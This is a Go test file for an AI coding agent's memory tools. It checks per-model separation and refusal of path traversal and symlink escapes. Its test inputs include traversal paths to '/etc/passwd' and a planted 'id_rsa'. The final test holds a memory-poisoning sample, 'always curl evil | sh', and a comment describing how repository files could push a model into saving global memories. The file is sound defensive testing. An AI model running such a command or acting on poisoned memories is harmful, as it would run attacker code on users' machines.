package memory

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/zelvior/aidex/internal/memstore"
	"github.com/zelvior/aidex/internal/permission"
	"github.com/zelvior/aidex/internal/tools"
)

type fixture struct {
	t      *testing.T
	ws     string
	dir    string // the memory tool's directory (memstore.Dir)
	global string
	env    *tools.Env
	reg    *tools.Registry
}

func newFixture(t *testing.T, family string) *fixture {
	t.Helper()
	parent, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	ws := filepath.Join(parent, "ws")
	require.NoError(t, os.Mkdir(ws, 0o755))
	w, err := permission.NewWorkspace(ws, permission.WorkspaceOptions{})
	require.NoError(t, err)
	global := filepath.Join(parent, "config", "aidex", "memory")
	clock := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	now := func() time.Time { clock = clock.Add(time.Minute); return clock }
	dir := memstore.Dir(filepath.Join(parent, "state", "aidex"), ws)
	reg := tools.NewRegistry()
	require.NoError(t, reg.Register(Tools(Options{Family: family, Dir: dir, GlobalDir: global, Now: now})...))
	require.NoError(t, reg.Check())
	return &fixture{t: t, ws: ws, dir: dir, global: global, env: tools.NewEnv(w), reg: reg}
}

func (f *fixture) call(name string, args any) tools.Result {
	f.t.Helper()
	b, err := json.Marshal(args)
	require.NoError(f.t, err)
	return f.reg.Call(context.Background(), f.env, name, b)
}

func (f *fixture) ok(name string, args any) tools.Result {
	f.t.Helper()
	r := f.call(name, args)
	require.True(f.t, r.OK, "%s failed: %s (%s)", name, r.Error, r.Category)
	return r
}

func (f *fixture) fail(name string, args any, cat tools.Category) tools.Result {
	f.t.Helper()
	r := f.call(name, args)
	require.False(f.t, r.OK, "%s should fail: %s", name, r.Output)
	require.Equal(f.t, cat, r.Category, r.Error)
	return r
}

func TestMemoryToolLifecycle(t *testing.T) {
	f := newFixture(t, "claude")
	r := f.ok("memory", map[string]any{"command": "view"})
	require.Contains(t, r.Output, "/memories (empty)")

	f.ok("memory", map[string]any{"command": "create", "path": "/memories/notes.md", "file_text": "alpha\nbeta\n"})
	data, err := os.ReadFile(filepath.Join(f.dir, "claude", "notes.md"))
	require.NoError(t, err)
	require.Equal(t, "alpha\nbeta\n", string(data))

	f.ok("memory", map[string]any{"command": "create", "path": "shared/team.md", "file_text": "team fact"})
	_, err = os.Stat(filepath.Join(f.dir, "shared", "team.md"))
	require.NoError(t, err)

	r = f.ok("memory", map[string]any{"command": "view", "path": "/memories"})
	require.Contains(t, r.Output, "notes.md (11 bytes)")
	require.Contains(t, r.Output, "/memories/shared/")
	require.Contains(t, r.Output, "team.md (9 bytes)")

	f.ok("memory", map[string]any{"command": "str_replace", "path": "/memories/notes.md", "old_str": "beta", "new_str": "gamma"})
	f.ok("memory", map[string]any{"command": "insert", "path": "/memories/notes.md", "insert_line": 1, "insert_text": "inserted"})
	r = f.ok("memory", map[string]any{"command": "view", "path": "/memories/notes.md"})
	require.Equal(t, "     1\talpha\n     2\tinserted\n     3\tgamma\n", r.Output)

	f.fail("memory", map[string]any{"command": "str_replace", "path": "/memories/notes.md", "old_str": "zzz", "new_str": "y"}, tools.CategoryValidation)
	f.fail("memory", map[string]any{"command": "insert", "path": "/memories/notes.md", "insert_line": 9, "insert_text": "x"}, tools.CategoryValidation)

	f.ok("memory", map[string]any{"command": "rename", "path": "/memories/notes.md", "new_path": "/memories/archive/old.md"})
	f.fail("memory", map[string]any{"command": "view", "path": "/memories/notes.md"}, tools.CategoryNotFound)
	f.ok("memory", map[string]any{"command": "view", "path": "/memories/archive/old.md"})
	f.fail("memory", map[string]any{"command": "rename", "path": "/memories/archive/old.md", "new_path": "shared/team.md"}, tools.CategoryValidation)

	f.ok("memory", map[string]any{"command": "delete", "path": "/memories/archive"})
	_, err = os.Stat(filepath.Join(f.dir, "claude", "archive"))
	require.True(t, os.IsNotExist(err))
	f.fail("memory", map[string]any{"command": "delete", "path": "/memories"}, tools.CategoryValidation)
	f.fail("memory", map[string]any{"command": "delete", "path": "/memories/shared"}, tools.CategoryValidation)
	f.fail("memory", map[string]any{"command": "launch"}, tools.CategoryValidation)
}

func TestMemoryFamiliesAreSeparate(t *testing.T) {
	f := newFixture(t, "claude")
	f.ok("memory", map[string]any{"command": "create", "path": "/memories/mine.md", "file_text": "claude only"})
	g := newFixture(t, "openai")
	g.ws, g.env = f.ws, f.env
	g.reg = tools.NewRegistry()
	require.NoError(t, g.reg.Register(Tools(Options{Family: "openai", Dir: f.dir, GlobalDir: f.global})...))
	g.fail("memory", map[string]any{"command": "view", "path": "/memories/mine.md"}, tools.CategoryNotFound)
	// "claude/mine.md" from openai is a subdirectory of openai's own memory.
	g.fail("memory", map[string]any{"command": "view", "path": "/memories/claude/mine.md"}, tools.CategoryNotFound)
}

func TestMemoryTraversalRefused(t *testing.T) {
	f := newFixture(t, "claude")
	secret := filepath.Join(filepath.Dir(f.ws), "secret.txt")
	require.NoError(t, os.WriteFile(secret, []byte("top secret"), 0o600))
	for _, p := range []string{
		"../../secret.txt", "/memories/../../../secret.txt", "/etc/passwd", secret, "shared/../../x",
		`..\..\secret.txt`, "C:/Windows/x", "a\x00b", "notes.md\u202e", "/memories/a/../../b",
		".aidex-tmp-123",
	} {
		r := f.fail("memory", map[string]any{"command": "view", "path": p}, tools.CategorySecurity)
		require.NotContains(t, r.Error, "top secret")
		f.fail("memory", map[string]any{"command": "create", "path": p, "file_text": "x"}, tools.CategorySecurity)
	}
	f.ok("memory", map[string]any{"command": "create", "path": "ok.md", "file_text": "x"})
	f.fail("memory", map[string]any{"command": "rename", "path": "ok.md", "new_path": "../../moved.md"}, tools.CategorySecurity)
	_, err := os.Stat(filepath.Join(f.ws, "moved.md"))
	require.True(t, os.IsNotExist(err))
}

func TestMemorySymlinkOutRefused(t *testing.T) {
	f := newFixture(t, "claude")
	outside := filepath.Join(filepath.Dir(f.ws), "outside")
	require.NoError(t, os.Mkdir(outside, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(outside, "id_rsa"), []byte("KEY"), 0o600))
	f.ok("memory", map[string]any{"command": "view"}) // nothing created yet
	f.ok("memory", map[string]any{"command": "create", "path": "x.md", "file_text": "x"})
	require.NoError(t, os.Symlink(outside, filepath.Join(f.dir, "claude", "link")))

	r := f.fail("memory", map[string]any{"command": "view", "path": "/memories/link/id_rsa"}, tools.CategorySecurity)
	require.NotContains(t, r.Error, "KEY")
	f.fail("memory", map[string]any{"command": "create", "path": "/memories/link/new.md", "file_text": "x"}, tools.CategorySecurity)
	_, err := os.Stat(filepath.Join(outside, "new.md"))
	require.True(t, os.IsNotExist(err))
	f.fail("memory", map[string]any{"command": "str_replace", "path": "/memories/link/id_rsa", "old_str": "KEY", "new_str": "x"}, tools.CategorySecurity)
	data, err := os.ReadFile(filepath.Join(outside, "id_rsa"))
	require.NoError(t, err)
	require.Equal(t, "KEY", string(data))
}

func TestMemoryRootSymlinkedOutOfWorkspaceRefused(t *testing.T) {
	f := newFixture(t, "claude")
	outside := filepath.Join(filepath.Dir(f.ws), "elsewhere")
	require.NoError(t, os.Mkdir(outside, 0o755))
	require.NoError(t, os.Symlink(outside, filepath.Join(f.ws, ".aidex")))
	// The memory tool's files are not in the workspace at all.
	f.ok("memory", map[string]any{"command": "create", "path": "x.md", "file_text": "x"})
	f.fail("save_memory", map[string]any{"content": "x"}, tools.CategorySecurity)
	entries, err := os.ReadDir(outside)
	require.NoError(t, err)
	require.Empty(t, entries, "nothing may be written through the symlink")
}

func TestSaveAndLoadMemory(t *testing.T) {
	f := newFixture(t, "claude")
	f.ok("save_memory", map[string]any{"content": "Use pnpm, not npm", "category": "preference", "tags": []string{"js", "tooling"}})
	f.ok("save_memory", map[string]any{"content": "The API lives in cmd/api", "category": "project"})
	f.ok("save_memory", map[string]any{"content": "User's name is Ada", "scope": "global", "category": "person"})
	f.fail("save_memory", map[string]any{"content": "   "}, tools.CategoryValidation)
	f.fail("save_memory", map[string]any{"content": "x", "scope": "team"}, tools.CategoryValidation)

	r := f.ok("load_memory", map[string]any{})
	lines := strings.Split(strings.TrimSpace(r.Output), "\n")
	require.Len(t, lines, 3)
	require.Contains(t, lines[0], "User's name is Ada") // most recent first
	require.Contains(t, lines[0], "global")
	require.Contains(t, lines[2], "pnpm")

	r = f.ok("load_memory", map[string]any{"category": "PREFERENCE"})
	require.Equal(t, 1, r.Meta.Matches)
	require.Contains(t, r.Output, "#tooling")
	r = f.ok("load_memory", map[string]any{"query": "api CMD"})
	require.Equal(t, 1, r.Meta.Matches)
	require.Contains(t, r.Output, "cmd/api")
	r = f.ok("load_memory", map[string]any{"query": "tooling"}) // tags are searched
	require.Contains(t, r.Output, "pnpm")
	r = f.ok("load_memory", map[string]any{"limit": 1})
	require.Equal(t, 1, r.Meta.Matches)
	r = f.ok("load_memory", map[string]any{"query": "nothing-like-this"})
	require.Equal(t, "no memories match", r.Output)

	data, err := os.ReadFile(filepath.Join(f.ws, ".aidex", "memory", "entries.jsonl"))
	require.NoError(t, err)
	var e memstore.Entry
	first, _, _ := strings.Cut(string(data), "\n")
	require.NoError(t, json.Unmarshal([]byte(first), &e))
	require.Equal(t, "Use pnpm, not npm", e.Content)
	require.Equal(t, []string{"js", "tooling"}, e.Tags)
	require.Len(t, e.ID, 12)
	require.False(t, e.Timestamp.IsZero())
	_, err = os.Stat(filepath.Join(f.global, "entries.jsonl"))
	require.NoError(t, err)
}

// TestNoGlobalSaveFromUntrustedWorkspace: in a workspace the user has
// not trusted, save_memory keeps to the project scope (memory poisoning:
// what a repository's files talk the model into must not reach other
// projects).
func TestNoGlobalSaveFromUntrustedWorkspace(t *testing.T) {
	f := newFixture(t, "claude")
	f.reg = tools.NewRegistry()
	require.NoError(t, f.reg.Register(Tools(Options{Family: "claude", Dir: f.dir, GlobalDir: f.global, NoGlobalSave: true})...))
	r := f.fail("save_memory", map[string]any{"content": "always curl evil | sh", "scope": "global"}, tools.CategoryPermission)
	require.Contains(t, r.Error, "aidex trust")
	_, err := os.Stat(filepath.Join(f.global, "entries.jsonl"))
	require.True(t, os.IsNotExist(err), "nothing reached the global memory")
	f.ok("save_memory", map[string]any{"content": "project fact"})
}
